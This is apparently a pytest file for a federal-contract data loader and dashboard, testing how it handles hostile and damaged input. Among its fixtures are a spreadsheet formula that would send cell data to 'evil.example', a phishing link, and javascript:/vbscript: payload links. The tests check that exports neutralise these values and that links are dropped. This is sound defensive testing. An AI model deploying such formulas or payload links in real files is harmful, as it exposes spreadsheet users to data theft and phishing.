"""Issue 13: hostile and damaged input, built inside each test from real rows of ../shared/data.

Spreadsheet formulas: a vendor named `=HYPERLINK(…)` must reach every CSV and XLSX meant for a spreadsheet
as inert text (OWASP: a leading apostrophe), while `graph export --format csv` (neo4j-admin import) keeps the
raw value and says so."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import subprocess
import sys

import openpyxl
import pytest

from graph.questions.queries import Queries
from tests.apptest_support import download, run, serve
from tests.dashboard_support import HOSTILE_KEY, HOSTILE_UEI, ROOT, _ingest, curated_env, hostile_file

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
INERT = "'" + FORMULA
PHISH = "https://evil.example/phish"


@pytest.fixture(scope="module")
def formula_home(tmp_path_factory):
    """A real ICE award row whose vendor and description are the formula and whose permalink is a phishing page,
    alone in a store."""
    folder = tmp_path_factory.mktemp("formula")
    home = folder / "kg"
    _ingest(home, "normalized", str(hostile_file(folder, FORMULA, permalink=PHISH)))
    return home


@pytest.fixture
def formula_app(formula_home, monkeypatch):
    return serve(formula_home, monkeypatch)


def csv_cells(data: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(data.decode("utf-8"))) for cell in row]


def test_dashboard_csv_and_xlsx_downloads_neutralize_formulas(formula_app):
    targets = run("targets", agency="ICE", today="2025-01-01", sector="all")  # the record's PSC is not technology
    cells = csv_cells(download(targets, "Ranking, the page's columns (CSV)"))
    assert INERT in cells
    assert not any(cell.startswith(("=", "+", "@")) for cell in cells)
    book = openpyxl.load_workbook(io.BytesIO(download(targets, "Ranking, calendar and settings (XLSX)")))
    values = [cell.value for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert INERT in values and FORMULA not in values
    assert all(cell.data_type != "f" for sheet in book.worksheets for row in sheet.iter_rows() for cell in row)
    vendor = run("vendor", name=HOSTILE_UEI)
    cells = csv_cells(download(vendor, "Awards (CSV)"))
    assert INERT in cells and FORMULA not in cells


def test_graph_export_csv_keeps_raw_values_and_says_so(formula_home, tmp_path):
    out = tmp_path / "import"
    done = subprocess.run(
        [sys.executable, "-m", "graph", "export", "--format", "csv", str(out)],
        cwd=ROOT,
        capture_output=True,
        text=True,
        env={**os.environ, **curated_env(formula_home)},
    )
    assert done.returncode == 0, done.stderr
    assert "not made safe for spreadsheets" in done.stdout
    cells = [cell for path in out.glob("nodes_*.csv") for cell in csv_cells(path.read_bytes())]
    assert FORMULA in cells  # what neo4j-admin imports: the name as recorded


@pytest.mark.parametrize("link", [PHISH, "javascript:alert(1)", "data:text/html,<b>x</b>", "vbscript:msgbox(1)"])
def test_a_spoofed_permalink_is_never_a_link_and_never_cited(link):
    from dashboard.render.profile import entity_links
    from dashboard.shaping.exports import citation

    award = {"key": HOSTILE_KEY, "permalink": link, "vendor": {"id": "uei:X", "name": "X"}, "awarding_agency": {}}
    assert entity_links(award)["permalink"] is None
    cited = citation(award)
    assert f"USAspending: https://www.usaspending.gov/award/{HOSTILE_KEY}/ [the record's own link differs" in cited


def test_the_vendor_page_links_the_rebuilt_permalink_only(formula_app):
    vendor = run("vendor", name=HOSTILE_UEI)
    awards = next(d.value for d in vendor.dataframe if "Obligated: what it sums" in d.value.columns)
    assert list(awards["USAspending page"]) == [None]  # the phishing link is not clickable
    assert f"https://www.usaspending.gov/award/{HOSTILE_KEY}/" in vendor.code[0].value
    assert PHISH not in vendor.code[0].value.split("not used:")[0]


def test_two_columns_of_one_name_stop_the_file_naming_both_positions(excerpts, tmp_path):
    source = sorted((excerpts / "spending_by_transaction_ice_cbp_fy2021_2026").glob("*.csv"))[0]
    with source.open(newline="", encoding="utf-8-sig") as handle:
        rows = [row for _, row in zip(range(4), csv.reader(handle), strict=False)]
    header = rows[0]
    twice = header[0]
    rows[0] = [twice if i == 5 else name for i, name in enumerate(header)]
    path = tmp_path / "twice.csv"
    with path.open("w", newline="", encoding="utf-8") as handle:
        csv.writer(handle).writerows(rows)
    home = tmp_path / "kg"
    done = subprocess.run(
        [sys.executable, "-m", "ingest", "transactions-csv", str(path), "--no-progress"],
        cwd=ROOT,
        capture_output=True,
        text=True,
        env={**os.environ, **curated_env(home)},
    )
    assert done.returncode == 1 and done.stderr.count("\n") == 1, done.stderr
    assert str(path) in done.stderr and f"column {twice!r} twice, at positions 1 and 6" in done.stderr
    from graph.store import open_store

    assert Queries(open_store("embedded", home=home)).stats()["nodes"] == {}  # nothing loaded


# -- decoding and amounts, through `python -m ingest` on both stores -------------------------------------------------

EXPORT = "spending_by_transaction_ice_cbp_fy2021_2026"


def real_rows(shared_data, count: int) -> list[list[str]]:
    """The header and the first `count` data rows of the FY2021 ICE/CBP transaction export."""
    source = shared_data / EXPORT / "CBP_ICE_FY2021_Contract_Obligations.csv"
    with source.open(newline="", encoding="utf-8-sig") as handle:
        return [row for _, row in zip(range(count + 1), csv.reader(handle), strict=False)]


def write_rows(path, rows, encoding="utf-8"):
    with path.open("w", newline="", encoding=encoding) as handle:
        csv.writer(handle).writerows(rows)
    return path


@pytest.fixture
def cli_load(store_kind, request, monkeypatch, capsys, tmp_path):
    """Runs `python -m ingest ARGS --store KIND --json` in-process into an empty store; (exit code, summary, stderr)."""
    from ingest.cli import main
    from tests.conftest import STORE_FACTORIES, open_test_store

    home = tmp_path / "kg"
    open_test_store(store_kind, home, request).close()  # empty (Neo4j: the test server)
    for name, value in curated_env(home).items():
        monkeypatch.setenv(name, value)
    for name, value in STORE_FACTORIES[store_kind].env(request).items():  # the test server, for a server store
        monkeypatch.setenv(name, value)

    def load(*args: str):
        code = main([*args, "--store", store_kind, "--json", "--no-progress"])
        out = capsys.readouterr()
        return code, (json.loads(out.out) if code == 0 else None), out.err

    def store():
        return open_test_store(store_kind, load.home, request, fresh=False)

    def move(to):
        """Load into (and open) the store under `to` from now on (the curated tables stay where they are)."""
        load.home = to
        monkeypatch.setenv("KG_HOME", str(to))

    load.home, load.store, load.move, load.kind = home, store, move, store_kind
    return load


def vendor_names(store) -> set[str]:
    return {e["name"] for e in store.fetch_entities() if e["kind"] == "Vendor"}


def test_a_cp1252_file_is_detected_and_two_umlauts_stay_two_vendors(cli_load, excerpts, tmp_path, caplog):
    rows = real_rows(excerpts, 3)
    rows[1][2], rows[2][2] = "MÜLLER GMBH", "MÖLLER GMBH"
    path = write_rows(tmp_path / "cp1252.csv", rows, encoding="cp1252")
    code, summary, err = cli_load("transactions-csv", str(path))
    assert code == 0, err
    assert summary["encodings"][str(path)] == "cp1252"
    assert summary["rows_read"] == 3 == summary["rows_loaded"] + summary["rows_rejected"]
    assert f"{path}: not UTF-8; read as cp1252 (detected)" in caplog.text
    store = cli_load.store()
    try:
        assert {"MÜLLER GMBH", "MÖLLER GMBH"} <= vendor_names(store)
        assert not any("\ufffd" in name for name in vendor_names(store))
    finally:
        store.close()


def test_a_byte_the_declared_encoding_cannot_decode_stops_the_file_at_its_line(cli_load, excerpts, tmp_path):
    rows = real_rows(excerpts, 3)
    path = tmp_path / "broken.csv"
    write_rows(path, rows)
    data = path.read_bytes().split(b"\n")
    data[2] = data[2].replace(b"INC", b"IN\x81C", 1) if b"INC" in data[2] else data[2] + b"\x81"
    path.write_bytes(b"\n".join(data))
    code, _, err = cli_load("transactions-csv", str(path), "--encoding", "cp1252")
    assert code == 1 and err.count("\n") == 1, err
    assert f"{path}: line 3 " in err and "cannot be decoded as cp1252" in err and "nothing was loaded" in err
    code, _, err = cli_load("transactions-csv", str(path), "--encoding", "no-such-codec")
    assert code == 1 and "not an encoding Python knows" in err
    store = cli_load.store()
    try:
        assert Queries(store).stats()["nodes"] == {}
    finally:
        store.close()


def test_an_absurd_amount_is_rejected_with_its_line_and_no_total_overflows(cli_load, excerpts, tmp_path):
    rows = real_rows(excerpts, 4)
    rows[2][3] = "1e307"
    rows[3][3] = "-2000000000000.00"
    path = write_rows(tmp_path / "absurd.csv", rows)
    code, summary, err = cli_load("transactions-csv", str(path))
    assert code == 0, err
    assert (summary["rows_read"], summary["rows_loaded"], summary["rows_rejected"]) == (4, 2, 2)
    with open(summary["rejects_file"], newline="", encoding="utf-8") as handle:
        rejects = list(csv.DictReader(handle))
    assert [r["record"] for r in rejects] == ["line 3", "line 4"]
    assert all("exceeds the bound of $1,000,000,000,000" in r["reason"] for r in rejects)
    kept = sum(float(row[3]) for row in (rows[1], rows[4]))
    store = cli_load.store()
    try:
        from graph.store import FactFilter

        total = sum(g["cents"] for g in store.fetch_fact_groups(FactFilter(), None))
        assert total == round(kept * 100)
    finally:
        store.close()


# -- bounded remote I/O: a local server replaying recorded USAspending answers (rows 5-7) ---------------------------


def api_search(api_responses):
    """The recorded DoD search answer (its first award has a recorded detail page), the recorded details and
    `as_page`, which rewrites only a copy's page metadata."""
    from tests.test_usaspending_api import DOD_ID, as_page, load, recorded_details

    one = load(api_responses, "layonez_bid_buster/01-award-search-dod-mit.json")
    assert one["results"][0]["generated_internal_id"] == DOD_ID
    return one, recorded_details(api_responses), as_page


class Pages(dict):
    """Search pages made on demand: a server whose `hasNext` never ends."""

    def __init__(self, make):
        super().__init__()
        self.make = make

    def __missing__(self, page):
        return self.make(page)


def award_count(store) -> int:
    return Queries(store).stats()["nodes"].get("Award", 0)


@pytest.mark.parametrize("kind", ["same page", "empty page", "page cap"])
def test_a_search_that_never_ends_stops_with_one_line_and_keeps_what_it_loaded(
    cli_load, httpserver, api_responses, kind
):
    import copy

    from tests.test_usaspending_api import FakeApi

    one, details, as_page = api_search(api_responses)

    def page(n):
        if kind == "same page":  # the same answer again and again, cursor and all
            return as_page(one, n, True)
        if kind == "empty page" and n > 1:
            return as_page(one, n, True, results=[])
        # every page new (a fresh cursor, rekeyed awards), and every one says another follows
        data = as_page(one, n, True)
        for index, hit in enumerate(data["results"]):
            hit["generated_internal_id"] = (
                f"{hit['generated_internal_id']}-{n}-{index}" if n > 1 else hit["generated_internal_id"]
            )
        data["page_metadata"]["last_record_unique_id"] = n
        data["page_metadata"]["last_record_sort_value"] = f"page {n}"
        return copy.deepcopy(data)

    api = FakeApi(httpserver, Pages(page), details)
    url = httpserver.url_for("/api/v2/search/spending_by_award/")
    extra = ["--max-pages", "3"] if kind == "page cap" else []
    code, _, err = cli_load(
        "usaspending-api", "--base-url", httpserver.url_for("/"), "--no-subawards", "--commit-every", "0", *extra
    )
    assert code == 1 and err.strip().count("\n") == 0, err
    expected = {
        "same page": "search page 2 repeats page 1 (the same cursor)",
        "empty page": "search page 2 is empty but says more pages follow (hasNext)",
        "page cap": "search still says more pages follow after 3 pages, the cap",
    }[kind]
    assert f"{url}: {expected}" in err, err
    assert api.search_pages == ([1, 2, 3] if kind == "page cap" else [1, 2])
    store = cli_load.store()
    try:  # page 1 was committed (--commit-every 0); its one award with a detail page is there, once
        assert award_count(store) == 1
    finally:
        store.close()


def test_a_redirect_of_the_search_to_another_host_is_not_followed(cli_load, httpserver):
    from pytest_httpserver import HTTPServer

    other = HTTPServer(host="localhost", port=0)
    other.expect_request("/steal").respond_with_json({"results": []})
    other.start()
    try:
        target = other.url_for("/steal")
        httpserver.expect_request("/api/v2/search/spending_by_award/", method="POST").respond_with_data(
            "", status=307, headers={"Location": target}
        )
        code, _, err = cli_load("usaspending-api", "--base-url", httpserver.url_for("/"), "--no-subawards")
        assert code == 1 and err.strip().count("\n") == 0, err
        assert f"redirected to {target}, a host other than the configured" in err
        assert other.log == []  # the POST body never reached the other host
    finally:
        other.clear()
        if other.is_running():
            other.stop()
    store = cli_load.store()
    try:
        assert Queries(store).stats()["nodes"] == {}
    finally:
        store.close()


def test_an_answer_that_trickles_is_cut_at_the_deadline(httpserver, api_responses):
    import time

    from werkzeug import Response

    from ingest.http import ApiError, HttpClient

    recorded = (api_responses / "layonez_bid_buster/01-award-search-dod-mit.json").read_bytes()

    def trickle(request):
        def body():
            for start in range(0, len(recorded), 64):  # 64 bytes every half second: never silent for long
                yield recorded[start : start + 64]
                time.sleep(0.5)

        return Response(body(), content_type="application/json")

    httpserver.expect_request("/api/v2/search/spending_by_award/", method="POST").respond_with_handler(trickle)
    client = HttpClient(httpserver.url_for("/"), timeout=5, deadline=2, retries=2, sleep=lambda s: None)
    started = time.monotonic()
    with pytest.raises(
        ApiError,
        match=r"cannot reach .*spending_by_award/: the answer took longer than the 2s "
        r"deadline; check --base-url",
    ):
        client.post_json("/api/v2/search/spending_by_award/", {"page": 1}, cache=False)
    assert time.monotonic() - started < 2 * (2 + 1)  # two tries, each cut within a read of its deadline


def test_a_gzipped_answer_is_read_whole_within_the_deadline(httpserver, api_responses):
    import gzip

    from werkzeug import Response

    from ingest.http import HttpClient

    recorded = (api_responses / "layonez_bid_buster/01-award-search-dod-mit.json").read_bytes()
    httpserver.expect_request("/search").respond_with_response(
        Response(gzip.compress(recorded), headers={"Content-Encoding": "gzip"}, content_type="application/json")
    )
    assert HttpClient(httpserver.url_for("/")).get_json("/search", cache=False) == json.loads(recorded)


# -- one line, never a traceback: a full or read-only disk, a lost Neo4j, Ctrl-C, a zero page size (row 10) ---------


@pytest.fixture
def small_disk(tmp_path):
    """`make(size, read_only=False)`: a real tmpfs of that size mounted under tmp_path (needs root, as CI runs)."""
    mounted = []

    def make(size: str, read_only: bool = False):
        point = tmp_path / f"disk{len(mounted)}"
        point.mkdir()
        options = f"size={size}" + (",ro" if read_only else "")
        done = subprocess.run(
            ["mount", "-t", "tmpfs", "-o", options, "tmpfs", str(point)], capture_output=True, text=True
        )
        if done.returncode != 0:
            pytest.skip(f"cannot mount a small tmpfs here ({done.stderr.strip()}): needs root")
        mounted.append(point)
        return point

    yield make
    for point in mounted:
        subprocess.run(["umount", "-l", str(point)], check=False)


def disk_free(path) -> int:
    stats = os.statvfs(path)
    return stats.f_bavail * stats.f_frsize


def test_a_disk_that_fills_is_one_line_and_the_store_stays_as_it_was(cli_load, shared_data, tmp_path, small_disk):
    disk = small_disk("16m")  # room for a first small load (the Neo4j working copy holds its pushed tables too)
    cli_load.move(disk / "kg")
    code, first, err = cli_load("transactions-csv", str(write_rows(tmp_path / "first.csv", real_rows(shared_data, 5))))
    assert code == 0, err
    store = cli_load.store()
    try:
        before = Queries(store).stats()
    finally:
        store.close()
    (disk / "filler").write_bytes(b"\0" * max(0, disk_free(disk) - 64 * 1024))  # too little for one more load
    code, _, err = cli_load("transactions-csv", str(write_rows(tmp_path / "more.csv", real_rows(shared_data, 400))))
    assert code == 1 and err.strip().count("\n") == 0, err
    assert re.search(f"cannot write the store in {re.escape(str(disk / 'kg'))}\\S*: No space left on device", err), err
    assert "the store holds what it held at its last commit; free space there" in err
    assert not list((disk / "kg").rglob("*.loading*"))  # the half-written copy is gone
    (disk / "filler").unlink()
    store = cli_load.store()
    try:
        assert Queries(store).stats() == before
    finally:
        store.close()


def test_a_read_only_store_directory_is_one_line(cli_load, excerpts, tmp_path, small_disk):
    cli_load.move(small_disk("1m", read_only=True) / "kg")
    code, _, err = cli_load("transactions-csv", str(write_rows(tmp_path / "rows.csv", real_rows(excerpts, 5))))
    assert code == 1 and err.strip().count("\n") == 0, err
    assert re.search(f"cannot write the store in {re.escape(str(cli_load.home))}\\S*: Read-only file system", err), err
    assert "make it writable or set KG_HOME to a writable directory" in err


class Relay:
    """A TCP relay in front of the Neo4j test server. `cut()` drops every connection and refuses new ones, as a
    server that died would (the real server goes on serving the other tests); `restore()` brings it back."""

    def __init__(self, host: str, port: int):
        import socket
        import threading

        self.target, self.live, self.sockets = (host, port), True, []
        self.listener = socket.create_server(("127.0.0.1", 0))
        self.port = self.listener.getsockname()[1]
        threading.Thread(target=self._accept, daemon=True).start()

    def _accept(self):
        import socket
        import threading

        while True:
            try:
                client, _ = self.listener.accept()
            except OSError:
                return
            if not self.live:
                client.close()
                continue
            upstream = socket.create_connection(self.target)
            self.sockets += [client, upstream]
            for a, b in ((client, upstream), (upstream, client)):
                threading.Thread(target=self._pipe, args=(a, b), daemon=True).start()

    @staticmethod
    def _pipe(source, sink):
        try:
            while data := source.recv(1 << 16):
                sink.sendall(data)
        except OSError:
            pass

    def cut(self):
        import socket

        self.live = False
        for sock in self.sockets:
            try:
                sock.shutdown(socket.SHUT_RDWR)
                sock.close()
            except OSError:
                pass
        self.sockets.clear()

    def restore(self):
        self.live = True

    def close(self):
        self.cut()
        self.listener.close()


@pytest.mark.neo4j
def test_neo4j_lost_mid_load_is_one_line_and_a_rerun_completes_without_duplicates(
    neo4j_server, excerpts, tmp_path, monkeypatch, capsys
):
    from urllib.parse import urlsplit

    from graph.stores.neo4j.store import Neo4jStore
    from ingest.cli import main

    path = write_rows(tmp_path / "rows.csv", real_rows(excerpts, 60))
    monkeypatch.setenv("NEO4J_RETRY_SECONDS", "1")  # how long the driver retries the lost server before giving up
    target = urlsplit(neo4j_server["uri"])
    relay = Relay(target.hostname, target.port)
    through = {**neo4j_server, "uri": f"bolt://127.0.0.1:{relay.port}"}  # bolt: the relay, never a routed address

    def load(home, connection):
        for name, value in curated_env(home).items():
            monkeypatch.setenv(name, value)
        for name in ("uri", "user", "password", "database"):
            monkeypatch.setenv(f"NEO4J_{name.upper()}", connection[name])
        code = main(["transactions-csv", str(path), "--store", "neo4j", "--json", "--no-progress"])
        return code, capsys.readouterr()

    def counts(home, connection):
        store = Neo4jStore(home=home, **connection)
        try:
            return Queries(store).stats(), store.fetch_counts()
        finally:
            store.close()

    try:
        Neo4jStore(home=tmp_path / "clean", **neo4j_server).clear()
        assert load(tmp_path / "clean", neo4j_server)[0] == 0
        expected = counts(tmp_path / "clean", neo4j_server)

        Neo4jStore(home=tmp_path / "kg", **through).clear()
        sent = Neo4jStore._send

        def send_then_die(self, statement, result):
            done = sent(self, statement, result)
            relay.cut()  # the server is gone after the first batch of the push
            return done

        monkeypatch.setattr(Neo4jStore, "_send", send_then_die)
        code, out = load(tmp_path / "kg", through)
        assert code == 1 and out.err.strip().count("\n") == 0, out.err
        assert f"lost Neo4j at {through['uri']} part-way through the load" in out.err
        assert "rerun the same command to complete it: nothing is duplicated" in out.err
        monkeypatch.setattr(Neo4jStore, "_send", sent)
        relay.restore()
        code, out = load(tmp_path / "kg", through)
        assert code == 0, out.err
        assert counts(tmp_path / "kg", through) == expected
    finally:
        relay.close()
        Neo4jStore(home=tmp_path / "clean", **neo4j_server).clear()


@pytest.mark.parametrize("after", [0.05, 0.1, 0.3, 0.45, 0.6, 1.0, 1.5, 2.0, 4.0])
def test_ctrl_c_at_any_moment_is_one_line_and_leaves_the_store_whole(shared_data, tmp_path, after):
    import signal
    import time

    home = tmp_path / "kg"
    path = write_rows(tmp_path / "rows.csv", real_rows(shared_data, 3000))
    env = {**os.environ, **curated_env(home)}
    command = [sys.executable, "-m", "ingest", "transactions-csv", str(path), "--no-progress"]
    process = subprocess.Popen(command, cwd=ROOT, env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    time.sleep(after)
    process.send_signal(signal.SIGINT)
    out, err = process.communicate(timeout=120)
    assert "Traceback" not in err and "Exception ignored" not in err, err
    if process.returncode != 0:  # -2: the signal came before the interpreter ran a line of ours
        assert process.returncode in (130, -signal.SIGINT), err
        assert err.strip().count("\n") == 0 and (err == "" or err.startswith("interrupted")), err
    from graph.store import open_store

    runs = open_store("embedded", home=home).runs() if (home / "store.duckdb").exists() else []
    assert len(runs) == 1 if process.returncode == 0 else len(runs) <= 1  # a Ctrl-C may come after the commit
    assert all(run["rows_read"] == 3000 == run["rows_loaded"] + run["rows_rejected"] for run in runs)  # all or none
    assert not list(home.glob("*.loading*"))


def test_a_zero_page_size_is_one_line_with_exit_2(tmp_path):
    done = subprocess.run(
        [sys.executable, "-m", "ingest", "usaspending-api", "--page-size", "0"],
        cwd=ROOT,
        capture_output=True,
        text=True,
        env={**os.environ, **curated_env(tmp_path / "kg")},
    )
    assert done.returncode == 2 and done.stderr.count("\n") == 1, done.stderr
    assert "--page-size: 0 is out of range: give a number between 1 and 100" in done.stderr


# -- CSV edge cases (row 13) ------------------------------------------------------------------------------------------


def test_an_unterminated_quote_is_one_reject_at_the_line_it_opened_and_the_rows_after_it_load(
    cli_load, excerpts, tmp_path
):
    rows = real_rows(excerpts, 8)
    path = write_rows(tmp_path / "quote.csv", rows)
    lines = path.read_bytes().split(b"\r\n")
    lines[2] = lines[2].replace(b",", b',"', 1)  # line 3: a quote opens in its second field and is never closed
    path.write_bytes(b"\r\n".join(lines))
    code, summary, err = cli_load("transactions-csv", str(path))
    assert code == 0, err
    assert (summary["rows_read"], summary["rows_loaded"], summary["rows_rejected"]) == (8, 7, 1)
    with open(summary["rejects_file"], newline="", encoding="utf-8") as handle:
        (reject,) = list(csv.DictReader(handle))
    assert reject["record"] == "line 3"
    assert re.match(
        r"a quote opened on this line is not closed on it: the field runs on to line \d+ and the row "
        r"makes \d+ columns, not 10",
        reject["reason"],
    ), reject["reason"]
    store = cli_load.store()
    try:  # the six rows after it were read on their own, each with its own line (the embedded copy of either store)
        records = {r["record"] for r in getattr(store, "staging", store)._rows("SELECT DISTINCT record FROM record")}
    finally:
        store.close()
    assert records == {f"line {n}" for n in (2, 4, 5, 6, 7, 8, 9)}


# -- control characters and over-long values: one validation for both stores (rows 8 and 11) -------------------------


def column(rows, name: str) -> int:
    return rows[0].index(name)


def test_control_characters_never_reach_a_store_or_an_xml_export(cli_load, excerpts, tmp_path, capsys):
    import networkx as nx

    from graph.cli import main as graph_main

    rows = real_rows(excerpts, 3)
    rows[1][column(rows, "Recipient Name")] = "NUL\x00 AND BELL\x07 CORP"
    rows[2][column(rows, "Transaction Description")] = "RADIO\x1b[31m SERVICES\x7f"
    code, summary, err = cli_load("transactions-csv", str(write_rows(tmp_path / "controls.csv", rows)))
    assert code == 0 and summary["rows_loaded"] == 3, err
    store = cli_load.store()
    try:
        assert "NUL AND BELL CORP" in vendor_names(store)
    finally:
        store.close()
    for form, reader in (("graphml", nx.read_graphml), ("gexf", nx.read_gexf)):
        out = tmp_path / f"graph.{form}"
        assert graph_main(["export", "--format", form, str(out), "--store", cli_load.kind]) == 0, capsys.readouterr()
        data = out.read_bytes()
        assert not any(byte in data for byte in (b"\x00", b"\x07", b"\x1b", b"\x7f"))
        names = {attrs.get("label") or attrs.get("name") for _, attrs in reader(out).nodes(data=True)}
        assert "NUL AND BELL CORP" in names  # the file reads back, with the name as cleaned


def test_an_over_long_name_or_description_is_rejected_alone_on_both_stores(cli_load, shared_data, tmp_path):
    rows = real_rows(shared_data, 4)
    rows[2][column(rows, "Recipient Name")] = "LONG NAME " * 500  # 5,000 bytes: over Neo4j's index limit
    rows[3][column(rows, "Transaction Description")] = "D" * 40_000
    code, summary, err = cli_load("transactions-csv", str(write_rows(tmp_path / "long.csv", rows)))
    assert code == 0, err
    assert (summary["rows_read"], summary["rows_loaded"], summary["rows_rejected"]) == (4, 2, 2)
    with open(summary["rejects_file"], newline="", encoding="utf-8") as handle:
        rejects = {r["record"]: r["reason"] for r in csv.DictReader(handle)}
    assert "over the limit of 4,000 bytes for one key, id, code or name" in rejects["line 3"]
    assert "over the limit of 32,000 bytes for one description" in rejects["line 4"]
    store = cli_load.store()
    try:
        assert Queries(store).stats()["nodes"]["Award"] == len(
            {rows[n][column(rows, "Generated Award ID")] for n in (1, 4)}
        )
    finally:
        store.close()


# -- URL parameters and path ends (row 9) ----------------------------------------------------------------------------


def opened(view: str, **query):
    """The app opened straight on page `view` with these URL parameters (not through Network, which would drop
    the parameters it owns), failing on any exception."""
    from streamlit.testing.v1 import AppTest

    from tests.apptest_support import APP

    app = AppTest.from_file(APP, default_timeout=180)
    app.query_params.update(query)
    if view != "network":
        app.switch_page(f"views/{view}.py")
    app.run()
    assert not app.exception, [e.message for e in app.exception]
    return app


@pytest.mark.parametrize(
    "view, query, shown",
    [
        ("network", {"min": "1e999", "more": "-5", "page": "nan"}, ["min='1e999' is not a finite number"]),
        (
            "network",
            {"min": "nan", "mode": "ego", "hops": "999"},
            ["min='nan' is not a finite number", "hops='999' is above 2"],
        ),
        (
            "targets",
            {"agency": "ICE", "months": "999999", "recent": "0", "w_exposure": "-1e999", "today": "9999-12-31"},
            [
                "months='999999' is above 120",
                "recent='0' is below 1",
                "w_exposure='-1e999' is not a finite number",
                "today='9999-12-31' is outside",
            ],
        ),
        ("targets", {"months": "-5", "w_growth": "1e308"}, ["months='-5' is below 1"]),
        ("paths", {"a": HOSTILE_UEI, "b": "ICE", "hops": "999"}, ["hops='999' is above 10"]),
    ],
)
def test_hostile_url_parameters_are_clamped_with_a_message(formula_app, view, query, shown):
    warnings = "\n".join(w.value for w in opened(view, **query).warning)
    for text in shown:
        assert text in warnings, warnings


def test_paths_between_one_entity_twice_or_blank_names_answer_in_one_line(formula_app):
    env = {**os.environ, **curated_env(formula_app)}

    def paths(*ends):
        return subprocess.run(
            [sys.executable, "-m", "graph", "paths", *ends], cwd=ROOT, capture_output=True, text=True, env=env
        )

    same = paths(HOSTILE_UEI, HOSTILE_UEI)
    assert same.returncode == 0 and "Traceback" not in same.stderr, same.stderr
    assert "same entity: both names mean" in same.stderr
    blank = paths("", "")
    assert blank.returncode == 1 and blank.stderr.count("\n") == 1 and "Traceback" not in blank.stderr, blank.stderr
    assert "give a vendor or agency for each end" in blank.stderr, blank.stderr
    limit = subprocess.run(
        [sys.executable, "-m", "graph", "search", "x", "--limit", "-1"],
        cwd=ROOT,
        capture_output=True,
        text=True,
        env=env,
    )
    assert limit.returncode == 2 and limit.stderr.count("\n") == 1 and "out of range" in limit.stderr, limit.stderr
    for a, b in ((HOSTILE_UEI, HOSTILE_UEI), ("", "")):
        page = opened("paths", a=a, b=b)
        shown = "\n".join(e.value for kind in ("info", "warning", "error") for e in getattr(page, kind))
        assert ("one entity, so there is nothing to link" if a else "Give two names") in shown, shown


def test_a_bad_match_regex_is_one_line(shared_data, tmp_path):
    source = shared_data / EXPORT / "CBP_ICE_FY2021_Contract_Obligations.csv"
    done = subprocess.run(
        [
            sys.executable,
            "-m",
            "ingest",
            "normalize",
            "--source",
            "transactions-csv",
            str(source),
            "--match",
            "(",
            "--out",
            str(tmp_path / "out.csv.gz"),
        ],
        cwd=ROOT,
        capture_output=True,
        text=True,
        env={**os.environ, **curated_env(tmp_path / "kg")},
    )
    assert done.returncode in (1, 2) and done.stderr.count("\n") == 1 and "Traceback" not in done.stderr, done.stderr
    assert "--match" in done.stderr and "(" in done.stderr, done.stderr
    assert not (tmp_path / "out.csv.gz").exists()
